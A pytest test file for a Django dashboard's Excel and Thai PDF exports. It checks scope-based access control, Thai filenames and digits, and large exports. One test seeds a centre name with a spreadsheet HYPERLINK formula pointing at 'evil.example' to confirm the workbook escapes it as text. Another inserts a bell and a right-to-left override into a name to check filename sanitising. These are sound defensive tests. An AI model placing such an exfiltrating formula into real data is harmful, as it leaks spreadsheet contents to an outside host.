"""A dashboard's exports: the Excel workbook and the Thai PDF report of a scope, made in
the background (downloads/) as the account that asked, holding only what its dashboard
shows it. Another scope's export by a guessed address is 404; the file is its
requester's alone."""

import io
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any
from urllib.parse import quote

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from accounts.models import RoleAssignment, User
from downloads.models import Download
from downloads.tests.fetch import ask, download, file_of
from oversight import exports, sections
from oversight.scopes import UNIT_KINDS, Scope
from oversight.tests.registered import registered
from registry.models import District, Organisation, ServiceCentre
from saduak.background import run_queued_tasks
from saduak.exports import BE_DATE
from saduak.tests.test_printing import pdf_text, width_faults
from thaicalendar.dates import bangkok_today, format_date

ClientAs = Callable[[str], Client]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def test_section() -> Iterator[None]:
    yield from registered()


def _book(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content))


def _texts(book: Any) -> str:
    return "\n".join(
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


def test_a_province_workbook_holds_the_province_and_nothing_else(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    response = download(client_as("overseer.pattani"), f"/oversight/{world['P94'].pk}/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    book = _book(response.content)
    assert book.sheetnames == ["สรุป", "รายพื้นที่", "ศูนย์บริการ"]
    summary = book["สรุป"]
    assert summary["A1"].value == "แดชบอร์ด: จังหวัดปัตตานี"
    assert summary["A2"].value == "ข้อมูล ณ วันที่"
    assert summary["B2"].value.date() == bangkok_today()
    assert summary["B2"].number_format == BE_DATE  # shown in BE, Thai months
    rows = {r[0]: r[1] for r in summary.iter_rows(min_row=4, values_only=True) if r[0]}
    assert rows["หน่วยงานในขอบเขต (ทดสอบ)"] is None  # the section's heading
    on_pattani = Organisation.objects.filter(province_id="94", kind__in=UNIT_KINDS)
    assert rows["หน่วยงานที่ให้บริการ"] == on_pattani.count() >= 3
    assert rows["ติดตาม: เทศบาลเมืองปัตตานี"] == "ยังไม่ส่งรายงาน"
    assert rows["ยังไม่มีข้อมูล"] == "–"
    share = next(c for c in summary["B"] if c.value == 0.25)
    assert share.number_format == "0.0%"
    # By district of Pattani, with the measure's values.
    headings = [c.value for c in book["รายพื้นที่"][1]]
    column = headings.index("จำนวนศูนย์บริการ (ทดสอบ)")
    areas = {r[0]: r[column] for r in book["รายพื้นที่"].iter_rows(min_row=2, values_only=True)}
    assert areas["เมืองปัตตานี"] == 1
    assert "ยะรัง" in areas
    centres = list(book["ศูนย์บริการ"].iter_rows(min_row=2, values_only=True))
    assert [c[5] for c in centres] == [
        "ศูนย์ราชการสะดวก เทศบาลเมืองปัตตานี",
        "จุดบริการประชาชน เทศบาลตำบลยะรัง",
    ] or sorted(c[5] for c in centres) == sorted(
        ["ศูนย์ราชการสะดวก เทศบาลเมืองปัตตานี", "จุดบริการประชาชน เทศบาลตำบลยะรัง"]
    )
    assert centres[0][1] == "ปัตตานี"
    # Nothing of Chiang Mai, in any sheet.
    everything = _texts(book)
    assert "เชียงใหม่" not in everything


def test_a_department_sees_only_its_units_on_a_province_cut(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    response = download(
        client_as("overseer.dla"), f"/oversight/{world['DLA'].pk}/export.xlsx", {"province": "94"}
    )
    book = _book(response.content)
    assert book["สรุป"]["A1"].value == "แดชบอร์ด: กรมส่งเสริมการปกครองท้องถิ่น · ปัตตานี"
    everything = _texts(book)
    assert "เทศบาลเมืองปัตตานี" in everything
    assert "เชียงใหม่" not in everything
    assert "สาธารณสุข" not in everything  # the province's health office is not DLA's


def test_text_typed_by_people_is_written_as_text_never_a_formula(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    ServiceCentre.objects.filter(organisation=world["5940101"]).update(
        name_th='=HYPERLINK("http://evil.example/?"&A1,"click")'
    )
    response = download(client_as("overseer.pattani"), f"/oversight/{world['P94'].pk}/export.xlsx")
    sheet = _book(response.content)["ศูนย์บริการ"]
    cell = next(c for c in sheet["F"] if str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s"  # a string, not a formula
    assert cell.quotePrefix


def test_the_pdf_report_is_thai_with_thai_digits_and_be_date(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    response = download(client_as("overseer.pattani"), f"/oversight/{world['P94'].pk}/export.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    pdf = response.content
    assert width_faults(pdf) == []
    text = pdf_text(pdf)
    assert "รายงานภาพรวมการขับเคลื่อนศูนย์ราชการสะดวก" in text
    assert "จังหวัดปัตตานี" in text
    assert format_date(bangkok_today(), digits="thai", lang="th") in text
    assert "๒๕.๐%" in text  # the share, in Thai digits
    assert "หน่วยงานที่ให้บริการ" in text and "เมืองปัตตานี" in text
    assert "เชียงใหม่" not in text
    # Each measure's areas as bars beside their names and values.
    assert "(ทดสอบ) รายพื้นที่ (เรียงจากดีที่สุด)" in text  # (text extraction splits ำ)
    # Thai digits throughout: no Arabic digit anywhere in the printed text.
    assert not any(ch in text for ch in "0123456789"), text


def test_the_export_follows_the_address_of_the_scope(
    client_as: ClientAs, world: dict[str, Organisation]
) -> None:
    client = client_as("overseer.pattani")
    page = client.get(f"/oversight/{world['P94'].pk}/").content.decode()
    assert f'action="/oversight/{world["P94"].pk}/export.xlsx"' in page
    assert f'action="/oversight/{world["P94"].pk}/export.pdf"' in page
    # A GET (an old link, a bookmark) only shows the button, stores nothing.
    assert client.get(f"/oversight/{world['P94'].pk}/export.pdf").status_code == 200
    assert not Download.objects.exists()
    location = ask(client, f"/oversight/{world['P94'].pk}/export.pdf")
    assert Download.objects.get().title.startswith("แดชบอร์ดของจังหวัดปัตตานี")
    assert client.get(location).status_code == 200


def test_the_files_have_thai_names_that_reach_the_browser(
    client_as: ClientAs, world: dict[str, Organisation]
) -> None:
    client = client_as("overseer.pattani")
    day = bangkok_today()
    stamp = f"{day.year + 543}{day:%m%d}"
    response = download(client, f"/oversight/{world['P94'].pk}/export.xlsx", {"district": "9401"})
    name = f"แดชบอร์ด-จังหวัดปัตตานี-{District.objects.get(code='9401').name_th}-{stamp}.xlsx"
    assert Download.objects.get().filename == name
    # A non-ASCII name is sent as RFC 6266's filename*, UTF-8 and percent-encoded.
    assert f"filename*=utf-8''{quote(name)}" in response["Content-Disposition"]


def test_a_long_or_odd_name_keeps_its_date_and_extension(
    client_as: ClientAs, world: dict[str, Organisation]
) -> None:
    # A province named at length, with a bell and a right-to-left override in it (review
    # finding: the name was cut at 200 through its extension, and kept such characters).
    Organisation.objects.filter(pk=world["P94"].pk).update(
        name_th="จังหวัดปัตตานี\x07\u202e" + "ก" * 230
    )
    client = client_as("overseer.pattani")
    download(client, f"/oversight/{world['P94'].pk}/export.xlsx")
    name = Download.objects.get().filename
    day = bangkok_today()
    assert name.endswith(f"-{day.year + 543}{day:%m%d}.xlsx") and len(name) <= 200
    assert "\x07" not in name and "\u202e" not in name


@pytest.mark.parametrize(
    ("username", "code"),
    [
        ("overseer.pattani", "P50"),  # another province, by a guessed address
        ("overseer.chiangmai", "P94"),
        ("overseer.dla", "P94"),  # the province is not DLA's
        ("admin.pattanitown", "5940101"),  # a unit's administrator oversees nothing
        ("staff.pattanitown", None),  # nor the nation
    ],
)
@pytest.mark.parametrize("suffix", ["xlsx", "pdf"])
def test_another_scopes_export_is_not_found(
    client_as: ClientAs,
    world: dict[str, Organisation],
    username: str,
    code: str | None,
    suffix: str,
) -> None:
    address = (
        f"/oversight/{world[code].pk}/export.{suffix}" if code else f"/oversight/export.{suffix}"
    )
    client = client_as(username)
    assert client.post(address).status_code == 404
    assert client.get(address).status_code == 404
    assert not Download.objects.exists()


def test_a_province_cut_outside_the_viewer_is_not_found(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    # Pattani's overseer naming Chiang Mai's soil: 404, as the dashboard (scope_for).
    client = client_as("overseer.pattani")
    response = client.post(f"/oversight/{world['P94'].pk}/export.xlsx?province=50")
    assert response.status_code == 404
    assert not Download.objects.exists()


def test_the_file_is_its_requesters_alone_and_closes_when_the_role_goes(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    pattani = client_as("overseer.pattani")
    page = ask(pattani, f"/oversight/{world['P94'].pk}/export.xlsx")
    run_queued_tasks()
    assert file_of(pattani, page).status_code == 200
    for other in ("opsadmin", "overseer.chiangmai", "overseer.dla"):
        client = client_as(other)
        assert client.get(page).status_code == 404
        assert client.get(f"{page}file/").status_code == 404
    # Moved to Chiang Mai after the file was made: Pattani's file is not handed over.
    RoleAssignment.objects.filter(user__username="overseer.pattani").update(
        organisation=world["P50"]
    )
    assert file_of(client_as("overseer.pattani"), page).status_code == 404


def test_the_national_export_of_ten_thousand_centres(
    client_as: ClientAs, world: dict[str, Organisation], test_section: None
) -> None:
    unit = world["5940101"]
    ServiceCentre.objects.bulk_create(
        [ServiceCentre(organisation=unit, name_th=f"ศูนย์ทดสอบ {n:05d}") for n in range(10_000)],
        batch_size=2000,
    )
    ops = client_as("opsadmin")
    page = ask(ops, "/oversight/export.xlsx")
    run_queued_tasks()
    made = Download.objects.get()
    assert made.state == Download.State.READY
    # Progress was told in steps (a section, a measure, every 500 centres): at the end
    # all of them are done.
    steps = len(sections.SECTIONS) + len(sections.MEASURES)
    assert made.total == made.done == steps + 10_003
    response = file_of(ops, page)
    book = _book(response.content)
    assert book["สรุป"]["A1"].value == "แดชบอร์ด: ทั้งประเทศ"
    assert book["ศูนย์บริการ"].max_row == 1 + 10_003
    assert len(list(book["รายพื้นที่"].iter_rows(min_row=2))) == 77  # every province


def test_the_workbook_reads_the_same_number_of_queries_for_few_or_many_centres(
    world: dict[str, Organisation], test_section: None
) -> None:
    ops = User.objects.get(username="opsadmin")
    scope = Scope(ops, None)
    today = date(2026, 12, 4)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            exports.workbook(scope, today)
        return len(captured)

    queries()  # the account's roles, read once and kept on it
    few = queries()
    ServiceCentre.objects.bulk_create(
        [ServiceCentre(organisation=world["3500101"], name_th=f"ศูนย์ {n}") for n in range(1200)]
    )
    assert queries() == few
